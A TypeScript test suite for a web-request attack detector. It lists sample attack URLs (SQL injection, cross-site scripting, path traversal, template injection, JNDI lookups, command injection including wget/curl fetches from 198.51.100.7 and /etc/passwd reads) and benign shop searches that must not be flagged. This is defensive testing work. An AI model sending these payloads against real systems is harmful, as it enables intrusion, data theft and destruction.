import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import type { AttackKind } from './attack-kinds.ts';
import { attackPatterns, traversalPatterns } from './attack-patterns.ts';
import { attacksOf, createAttackReader, type RequestPart } from './attack-strings.ts';

/** Written after what OWASP's pages and PortSwigger's Academy say how each attack works, not taken from a list of payloads. */
const attacks: Readonly<Record<AttackKind, readonly string[]>> = {
  sql: [
    "/p?id=7'+OR+'a'='a",
    '/p?id=7%27%20or%201%3D1--%20-',
    '/p?id=7+and+3=4',
    '/p?id=7) or (5=5',
    '/p?id=-1+UNION+SELECT+null,null,version()',
    '/p?id=-1/**/UnIoN/**/aLl/**/SeLeCt/**/1,2,3',
    '/p?id=-1+/*!50000union*/+/*!50000select*/+1,user()',
    '/p?id=7;DROP+TABLE+orders',
    "/p?name=x';insert+into+users+values('a','b')",
    '/p?id=7+and+sleep(5)',
    "/p?id=7';waitfor+delay+'0:0:5'--",
    '/p?id=if(1=1,sleep(5),0)',
    '/p?id=7+and+(select+count(*)+from+users)>0',
    '/p?id=extractvalue(1,concat(0x7e,version()))',
    '/p?user=admin%27--',
    '/p?id=7%2527%2520or%2520%25271%2527%253D%25271',
    '/p?id=7%252527+or+%2525271%252527=%2525271',
    '/p?id=1%u0027+or+%u00271%u0027=%u00271',
    '/p?id=7+order+by+4--',
    "/p?id=7'||'a'='a",
    '/p?id=1+into+outfile+%27/var/www/x.php%27',
    '/p?id=1%20AND%201=CONVERT(int,@@version)',
    '/p?id=(select(0)from(select(sleep(9)))v)',
  ],
  script: [
    '/search?q=<script>alert(1)</script>',
    '/search?q=%3CScRiPt%3Ealert%281%29%3C%2FsCrIpT%3E',
    '/search?q=%253Cscript%253Ealert(1)',
    '/search?q=<img+src=x+onerror=alert(1)>',
    '/search?q=<svg/onload=alert`1`>',
    '/search?q=%22+onmouseover=%22alert(1)',
    '/search?q="><body onload=alert(1)>',
    '/go?url=javascript:alert(document.cookie)',
    '/search?q=&lt;script&gt;alert(1)&lt;/script&gt;',
    '/search?q=&#60;script&#62;x()',
    '/search?q=&#x3c;iframe src=//example.org&#x3e;',
    '/search?q=%u003cscript%u003ealert(1)',
    '/search?q=\\x3cscript\\x3ealert(1)',
    "/search?q=';alert(1)//",
    '/search?q=<a href="javascript:confirm(1)">',
    '/search?q=<details/open/ontoggle=prompt(1)>',
  ],
  traversal: [
    '/static/../../../../etc/passwd',
    '/download?file=../../../../etc/shadow',
    '/download?file=..%2f..%2f..%2fboot.ini',
    '/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/download?file=%252e%252e%252fetc%252fpasswd',
    '/download?file=..%c0%af..%c0%afetc/passwd',
    '/download?file=..\\..\\..\\windows\\win.ini',
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
    '/download?file=....//....//....//etc/passwd',
    '/app/..;/manager/html',
    '/download?file=/etc/passwd',
    '/download?file=file:///etc/passwd',
    '/download?file=../../secret.txt%00.png',
    '/static../.git/config',
    '/../../../x',
  ],
  template: [
    '/hello?name={{7*7}}',
    '/hello?name=%7B%7B7*%277%27%7D%7D',
    '/hello?name=${7*7}',
    '/hello?name=#{7*7}',
    '/hello?name=<%=+7*7+%>',
    "/hello?name={{''.__class__.__mro__[1].__subclasses__()}}",
    '/hello?name={{config.items()}}',
    "/hello?name=${T(java.lang.Runtime).getRuntime().exec('id')}",
    '/hello?name=<#assign+ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '/hello?name=%24%7Bclass.forName(%22x%22)%7D',
    '/hello?name=@(2*21)',
  ],
  jndi: [
    '/?x=${jndi:ldap://198.51.100.7/a}',
    '/?x=%24%7Bjndi%3Armi%3A%2F%2Fexample.org%2Fa%7D',
    '/?x=${${lower:j}ndi:${lower:l}dap://example.org/a}',
    '/?x=${${::-j}${::-n}${::-d}${::-i}:dns://example.org}',
    '/?x=${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://example.org}',
    '/$%7Bjndi:ldap://example.org/a%7D',
  ],
  command: [
    '/ping?host=127.0.0.1;cat+/etc/passwd',
    '/ping?host=127.0.0.1%7Cls+-la',
    '/ping?host=127.0.0.1%26%26whoami',
    '/ping?host=$(id)',
    '/ping?host=1;sleep+5',
    '/ping?host=1|ping+198.51.100.7',
    '/ping?host=`id`',
    '/ping?host=x%0a/usr/bin/id;uname+-a',
    '/ping?host=;wget+http://198.51.100.7/x.sh',
    '/ping?host=;cat${IFS}/etc/passwd',
    '/run?cmd=curl+-s+http://198.51.100.7/x',
    '/ping?host=x||ping+-c+3+198.51.100.7',
    '/shell?x=cmd.exe+/c+dir',
    '/index.php?page=php://input',
    '/ping?host=%2524%2528sleep%25205%2529',
  ],
};

for (const [kind, urls] of Object.entries(attacks)) {
  test(`${kind} is found in a URL, whatever it is encoded with`, () => {
    const missed = urls.filter((url) => !attacksOfUrl(url).some((one) => one === kind));
    assert.deepEqual(missed, []);
    const missedInDocuments = urls.filter((url) => !inUrl(url).some((one) => one === kind));
    assert.deepEqual(missedInDocuments, []);
  });
}

/** As documents have a URL: its path, and its query apart. */
function partsOf(url: string): readonly (readonly [string, RequestPart])[] {
  const [path = '', ...query] = url.split('?');
  return [
    [path, 'path'],
    [query.join('?'), 'query'],
  ];
}
const attacksOfUrl = (url: string): AttackKind[] => partsOf(url).flatMap(([text, part]) => attacksOf(text, part));
const inUrl = (url: string): readonly AttackKind[] => partsOf(url).flatMap(([text, part]) => inDocument(text, part));

function inDocument(text: string, part: RequestPart): readonly AttackKind[] {
  return createAttackReader(Buffer.from(`${JSON.stringify(text)}  `), part)(1);
}

test('is found in user agents and referrers', () => {
  assert.deepEqual(attacksOf('() { :; }; /bin/bash -c "id"', 'agent'), ['command']);
  assert.deepEqual(attacksOf('${jndi:ldap://example.org/a}', 'agent'), ['jndi']);
  assert.deepEqual(inDocument("Mozilla/5.0' and sleep(5)--", 'agent'), ['sql']);
  assert.deepEqual(inDocument('https://example.org/?q=<script>alert(1)</script>', 'referrer'), ['script']);
});

/** What people, shops and careless programs ask for. */
const ordinary = [
  // a quote is also inches, and a word between spaces is one
  '/search?q=6%22%20alert%20(2',
  '/search?q=bags%3B+confirm+(2+pairs)',
  "/search?q=o'reilly",
  '/search?q=o%27reilly+and+sons',
  "/search?q=rock'n'roll",
  '/search?q=select+shoes',
  '/search?q=select+shoes+from+the+sale',
  '/search?q=drop+table+tennis',
  '/search?q=union+jack',
  '/search?q=credit+union+select+card',
  '/search?q=boots+or+sandals',
  '/search?q=black+and+white+size+%3D+42',
  '/search?q=5%27+or+6%27+ladder',
  '/search?q=%22waterproof%22+or+%22windproof%22',
  '/search?q=tents+(2+or+3+persons)',
  '/search?q=it%27s+%231',
  '/search?q=group+by+size',
  '/search?q=order+by+phone',
  '/search?q=update+my+order',
  '/search?q=sleep(less)+nights',
  '/search?q=cat+food;dog+food',
  '/search?q=type+c|type+b',
  '/search?q=tents;+sleep+2',
  '/search?q=%22fleece%22+--+size+m',
  '/search?q=12%22+--',
  '/search?q=cat+%26+dog',
  '/search?q=script+fonts',
  '/search?q=%3C3+hearts',
  '/search?q=10+%3C+20',
  '/search?q=a+%3C+b+and+c+%3E+d',
  '/search?q=a*b',
  '/search?q=javascript+book',
  '/search?q=50%25+off',
  '/search?q=100%',
  '/p/foo..bar.html',
  '/p/version..2/notes..txt',
  '/a/../b.png',
  '/../images/logo.png',
  '/go?return=..%2Fcart%2F',
  '/go?return=%2Faccount%2Forders%3Fpage%3D2',
  '/go?next=https%3A%2F%2Fwww.example.org%2Fp%3Fid%3D7%26size%3D42',
  '/go?next=https://www.example.org/p',
  '/list?filter=color:red|size:42&sort=price,-name',
  '/list?filter[price][from]=10&filter[price][to]=20',
  '/list;jsessionid=0A1B2C3D?page=2',
  '/images/{{product.image}}',
  '/images/${product.image}',
  '/images/%7B%7Bitem.url%7D%7D',
  '/javascript:void(0)',
  '/javascript:void(0);',
  '/$(this).attr(%27href%27)',
  '/token?state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ==',
  '/token?state=YS0tYicrLy8rLS1vcj0x',
  '/api?fields=name,id;stock&where=price%3E10',
  '/api?q={"filter":{"size":"42"},"or":[1,2]}',
  '/wp-content/uploads/2026/11/men%E2%80%99s-jacket.jpg',
  '/c/m%C3%A4nner?utm_campaign=black%20friday%20%26%20more',
  "/c/women's-shoes?utm_content=it's+on!",
  '/etc/passwd-manager-review',
  '/blog/how-to-use-cat-and-ls',
  '/blog/sql-injection-explained',
];

test('is not found in what people ask for', () => {
  const found = ordinary.filter(
    (url) =>
      attacksOfUrl(url).length > 0 ||
      attacksOf(`https://www.example.org${url}`, 'referrer').length > 0 ||
      inUrl(url).length > 0,
  );
  assert.deepEqual(found, []);
});

test('is not found in what user agents are called', () => {
  const agents = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) [FBAN/FBIOS;FBAV/440.0;FBDV/iPhone14,2|1170x2532]',
    "Mozilla/5.0 (compatible; O'Hara Bot/1.0; +http://example.org/bot?a=1&b=2)",
    'curl/8.5.0',
    'Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; Galaxy S II Build/GRJ22)',
    'SEMrushBot/7~bl; {"version":"1"}',
    'Dalvik/2.1.0 (Linux; U; Android 14; SM-A536B Build/UP1A.231005.007)',
  ];
  for (const agent of agents) assert.deepEqual(inDocument(agent, 'agent'), [], agent);
});

suite('takes time in proportion to the text', () => {
  const patterns = [...Object.values(attackPatterns).flat(), ...traversalPatterns];

  test('as no pattern repeats anything without a bound', () => {
    const unbounded = patterns.filter(({ source }) =>
      /(?<!\\)[*+]|\{\d+,\}/.test(source.replace(/\\[^]/g, '').replace(/\[[^\]]*\]/g, '')),
    );
    assert.deepEqual(unbounded, []);
  });

  const pieces = [
    "'",
    '"',
    '<',
    '<a ',
    '${',
    '{{',
    '../',
    '%25',
    '%2525',
    '&#',
    '/*',
    '(select ',
    "' or (",
    ';cat ',
    ' and ',
    '`',
    '\\x',
    '$(',
    'a',
    '\\\\',
    '<svg/',
    '+',
    '%c0',
    '[',
    '{',
    '| ',
  ];
  for (const piece of pieces) {
    test(`of ${JSON.stringify(piece)} again and again`, () => {
      const text = piece.repeat(64 * 1024);
      const started = process.cpuUsage();
      inDocument(text, 'query');
      // 16 KiB of it are looked at; something quadratic took seconds
      assert.ok(process.cpuUsage(started).user < 400_000);
    });
  }
});
